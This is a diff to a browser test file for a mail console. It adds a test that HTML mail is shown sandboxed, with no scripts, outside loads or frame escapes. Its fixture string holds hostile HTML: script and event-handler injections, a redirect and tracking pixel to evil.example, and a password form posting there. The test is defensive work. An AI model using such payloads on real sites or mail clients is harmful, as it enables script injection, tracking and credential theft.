@@ -5,6 +5,7 @@ import { connect, hasBrowser, signIn, useRunningConsole } from './running-consol
 
 const test = plainTest.skipIf(!hasBrowser)
 const running = useRunningConsole()
+const pictures = new URL('../../artefacts/', import.meta.url)
 const customer = { address: 'customer@outside.example', name: 'Casey Customer' }
 
 test('these tests need /usr/bin/chromium (Debian: apt-get install chromium), else all are skipped', () => {
@@ -151,7 +152,7 @@ test('a mail’s markup is shown as the text it is', async () => {
   expect(await page.locator('#evil').count()).toBe(0)
 })
 
-test('a mail of only HTML is not shown, and its original can be downloaded', async () => {
+test('a sent mail of only HTML is not shown, and its original can be downloaded', async () => {
   const page = await running.open('html')
   await connect(page, { person: 'Grace Hopper' })
   const [, channelId = ''] = new URL(page.url()).hash.split('/')
@@ -167,6 +168,46 @@ test('a mail of only HTML is not shown, and its original can be downloaded', asy
   expect(download.suggestedFilename()).toMatch(/\.eml$/)
   expect(await page.locator('#evil').count()).toBe(0)
 })
+
+test('a formatted mail is shut in: no script runs, nothing is loaded, nothing reaches out of its frame', async () => {
+  const page = await running.open('formatted')
+  const foreign: string[] = []
+  page.on('request', request => {
+    if (!/^(data|about|blob):/.test(request.url()) && !request.url().startsWith(running.url))
+      foreign.push(request.url())
+  })
+  await connect(page, { person: 'Grace Hopper' })
+  await running.sandbox('/personas/grace/deliver', {
+    from: customer,
+    subject: 'Look at this',
+    text: 'Spring offer',
+    html: hostileHtml,
+  })
+  await page.getByRole('button', { name: 'Fetch now' }).click()
+  await row(page, 'Look at this').click()
+  await page.getByRole('button', { name: 'Show formatted' }).click()
+  const mail = page.frameLocator('iframe.formatted')
+  await mail.getByRole('heading', { name: 'Spring offer' }).waitFor()
+  // What the sender laid out is there; what could act is not.
+  expect(await mail.locator('script, style, form, input, iframe, object, meta[http-equiv]').count()).toBe(0)
+  expect(await mail.locator('[onclick], [onerror], [style], img[src^="http"]').count()).toBe(0)
+  expect(await mail.getByRole('link', { name: 'Shop' }).getAttribute('rel')).toContain('noopener')
+  expect(await page.evaluate('window.ranInTheConsole')).toBeUndefined()
+  expect(await page.title()).toBe('Postroom')
+  expect(foreign).toEqual([])
+  const box = await page.locator('iframe.formatted').boundingBox()
+  expect(box?.width).toBeLessThan(800)
+  await page.screenshot({ path: new URL('console-formatted.png', pictures).pathname })
+})
+
+const hostileHtml = `<html><head><title>Gone</title><style>body{position:fixed;inset:0;background:url(https://evil.example/s)}</style>
+<meta http-equiv="refresh" content="0;url=https://evil.example/"></head><body onload="parent.ranInTheConsole=1">
+<script>parent.ranInTheConsole = 1; top.location = 'https://evil.example/'</script>
+<h1 style="position:fixed;top:0;width:9999px">Spring offer</h1>
+<img src="https://evil.example/pixel.gif" onerror="parent.ranInTheConsole=1"><svg onload="parent.ranInTheConsole=1"></svg>
+<form action="https://evil.example/"><input name="password"><button>Sign in</button></form>
+<iframe src="https://evil.example/"></iframe><a href="https://shop.example/" onclick="alert(1)">Shop</a>
+<a href="javascript:parent.ranInTheConsole=1">Click</a></body></html>`
 
 test('an outage is told quietly, and the console recovers by itself', async () => {
   const page = await running.open('outage')
